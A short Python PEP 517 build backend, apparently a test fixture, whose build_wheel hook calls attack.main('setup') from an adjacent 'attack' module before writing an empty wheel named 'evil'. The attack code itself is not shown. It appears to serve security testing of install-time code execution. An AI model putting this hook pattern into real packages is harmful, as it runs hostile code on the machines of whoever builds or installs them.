"""The build of a dependency, as a setup.py would be, without setuptools: PEP 517."""
import os, sys, zipfile

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import attack


def build_wheel(where, config_settings=None, metadata_directory=None):
    attack.main("setup")
    name = "evil-1-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(where, name), "w") as z:
        z.writestr("evil-1.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1\n")
        z.writestr("evil-1.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: evil\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        z.writestr("evil-1.dist-info/RECORD", "")
    return name
